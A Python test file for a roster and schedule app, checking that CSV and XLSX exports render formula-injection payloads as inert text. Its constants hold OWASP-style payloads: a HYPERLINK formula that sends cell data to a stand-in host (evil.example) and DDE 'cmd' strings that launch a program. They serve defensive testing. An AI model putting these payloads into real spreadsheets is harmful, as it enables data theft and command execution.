"""Every CSV and XLSX export, read back the way a spreadsheet would: no cell is a formula.

OWASP's payloads typed into names, notes and session titles come back as text (with a leading
apostrophe in CSV, exactly as typed in XLSX); numbers and dates keep their types.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from roster_world import make_program

from sakura_desktop.cli import main
from sakura_desktop.core.checkin.checkpoints import ensure_checkpoints
from sakura_desktop.core.checkin.reports import headcount
from sakura_desktop.core.roster import import_roster_file
from sakura_desktop.core.roster.exporter import export_participants, export_teams
from sakura_desktop.core.roster.participants import ParticipantEdit, create_participant
from sakura_desktop.core.schedule.editing import SessionDraft, create_session
from sakura_desktop.core.schedule.io import export_schedule, import_schedule
from sakura_desktop.core.spreadsheet_cells import (
    FORMULA_STARTS,
    csv_field,
    csv_text_as_typed,
    inert_csv_text,
)
from sakura_desktop.core.timeutil import zone
from sakura_desktop.db.engine import Database
from sakura_desktop.ui.checkin.missing_list import MissingReport, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
PHONE = "+81 90 1234 5678"
PAYLOADS = (HYPERLINK, CMD, AT_SUM, MINUS, TAB, CR)


def read_csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def assert_csv_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def xlsx_cells(path: Path) -> list[tuple[object, str]]:
    """(value, openpyxl data type) of every cell of every sheet."""
    workbook = load_workbook(path)
    return [
        (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def assert_no_formula(cells: list[tuple[object, str]]) -> None:
    formulas = [value for value, kind in cells if kind == "f"]
    assert formulas == []


@pytest.fixture
def program_id(database: Database) -> int:
    program = make_program(database)
    factory = database.session_factory
    create_participant(
        factory,
        program.id,
        ParticipantEdit(
            family_name=HYPERLINK,
            given_name=CMD,
            preferred_name=AT_SUM,
            native_name=MINUS,
            date_of_birth=dt.date(2008, 4, 5),
            dietary=TAB,
            allergies=CR,
            notes=MINUS,
            phone=PHONE,
            emergency_contact_phone=PHONE,
        ),
    )
    return program.id


def test_the_rule_itself() -> None:
    for payload in PAYLOADS:
        assert inert_csv_text(payload) == "'" + payload
    assert inert_csv_text("Sato Hana") == "Sato Hana"
    for text in (*PAYLOADS, PHONE, "'O'Brien", "Sato Hana", "'", ""):
        assert csv_text_as_typed(inert_csv_text(text)) == text
    assert inert_csv_text("") == ""
    assert csv_field(-5) == "-5"  # a number is data, not a formula
    assert csv_field(None) == ""


def test_participants_csv_keeps_payloads_as_text(
    database: Database, program_id: int, tmp_path: Path
) -> None:
    out = tmp_path / "participants.csv"
    export_participants(database.session_factory, program_id, out, include_sensitive=True)
    header, row = read_csv_cells(out)
    assert_csv_inert([header, row])
    cell = dict(zip(header, row, strict=True))
    assert cell["Family name"] == "'" + HYPERLINK
    assert cell["Given name"] == "'" + CMD
    assert cell["Native name"] == "'" + MINUS
    assert cell["Allergies"] in ("'" + CR, "'=1+1")  # as typed, or trimmed by the edit
    assert "2008-04-05" in row
    assert "'" + PHONE in row


def test_participants_xlsx_has_no_formula_and_keeps_types(
    database: Database, program_id: int, tmp_path: Path
) -> None:
    out = tmp_path / "participants.xlsx"
    export_participants(database.session_factory, program_id, out, include_sensitive=True)
    cells = xlsx_cells(out)
    assert_no_formula(cells)
    values = [value for value, _ in cells]
    for payload in (HYPERLINK, CMD, AT_SUM, MINUS, PHONE):
        assert payload in values
    assert dt.datetime(2008, 4, 5) in values  # a real date, not text


def test_teams_csv_is_inert(database: Database, program_id: int, tmp_path: Path) -> None:
    with database.session() as session:
        from sakura_desktop.db.models import Team

        session.add(Team(program_id=program_id, name="=1+1", colour="@red"))
    out = tmp_path / "teams.csv"
    export_teams(database.session_factory, program_id, out)
    rows = read_csv_cells(out)
    assert_csv_inert(rows)
    assert rows[1][:2] == ["'=1+1", "'@red"]


def test_tokens_csv_is_inert(
    database: Database, program_id: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "tokens.csv"
    assert main(["tokens", "--db", str(database.path), "--out", str(out)]) == 0
    rows = read_csv_cells(out)
    assert_csv_inert(rows)
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert cell["family_name"] == "'" + HYPERLINK
    assert cell["given_name"] == "'" + CMD
    assert cell["participant_id"].isdigit()
    assert cell["token"] and not cell["token"].startswith("'")


def test_missing_list_csv_is_inert(database: Database, program_id: int, tmp_path: Path) -> None:
    factory = database.session_factory
    arrival = ensure_checkpoints(factory, program_id)[0]
    count = headcount(factory, arrival.id)
    assert len(count.missing) == 1
    report = MissingReport(
        checkpoint=arrival.name,
        expected=count.expected,
        present=count.present,
        missing=count.missing,
        as_of=dt.datetime(2026, 7, 20, 9, 0),
    )
    rows = read_csv_cells(write_csv(report, tmp_path / "missing.csv"))
    assert_csv_inert(rows)
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert cell["family_name"] == "'" + HYPERLINK
    assert cell["preferred_name"] == "'" + AT_SUM


@pytest.fixture
def schedule_program(database: Database, program_id: int) -> int:
    start = dt.datetime(2026, 7, 21, 9, 0, tzinfo=zone("Asia/Tokyo"))
    create_session(
        database.session_factory,
        program_id,
        SessionDraft(
            title=HYPERLINK,
            kind="lecture",
            start=start,
            end=start + dt.timedelta(hours=1),
            capacity=30,
            host=CMD,
            description=AT_SUM,
            for_everyone=True,
        ),
    )
    return program_id


def test_schedule_csv_is_inert(database: Database, schedule_program: int, tmp_path: Path) -> None:
    out = tmp_path / "week.csv"
    export_schedule(database.session_factory, schedule_program, out)
    rows = read_csv_cells(out)
    assert_csv_inert(rows)
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert (cell["title"], cell["host"], cell["description"]) == (
        "'" + HYPERLINK,
        "'" + CMD,
        "'" + AT_SUM,
    )
    assert cell["capacity"] == "30"


def test_schedule_xlsx_writes_text_not_formulas(
    database: Database, schedule_program: int, tmp_path: Path
) -> None:
    out = tmp_path / "week.xlsx"
    export_schedule(database.session_factory, schedule_program, out)
    cells = xlsx_cells(out)
    assert_no_formula(cells)
    workbook = load_workbook(out)
    header, row = ([cell.value for cell in r] for r in workbook.active.iter_rows(max_row=2))
    cell = dict(zip(header, row, strict=True))
    assert (cell["title"], cell["host"], cell["description"]) == (HYPERLINK, CMD, AT_SUM)
    assert cell["capacity"] == 30
    assert isinstance(cell["start"], dt.datetime)


def test_csv_text_export_reads_back_in_a_spreadsheet_reader() -> None:
    """The apostrophe is the only change: csv quoting keeps commas and quotes of the payload."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_field(p) for p in PAYLOADS])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'" + p for p in PAYLOADS]


def test_exported_csv_imports_back_unchanged(
    database: Database, program_id: int, tmp_path: Path
) -> None:
    """A phone "+81 ..." leaves as "'+81 ..." and must come back as it was typed."""
    out = tmp_path / "participants.csv"
    export_participants(database.session_factory, program_id, out)
    summary = import_roster_file(database.session_factory, program_id, out)
    assert (summary.created, summary.updated, summary.unchanged, summary.errors) == (0, 0, 1, ())


def test_exported_schedule_csv_imports_back_unchanged(
    database: Database, schedule_program: int, tmp_path: Path
) -> None:
    """The session titled "=HYPERLINK(...)" comes back as typed, not with the apostrophe."""
    out = tmp_path / "week.csv"
    export_schedule(database.session_factory, schedule_program, out)
    report = import_schedule(database.session_factory, schedule_program, out)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
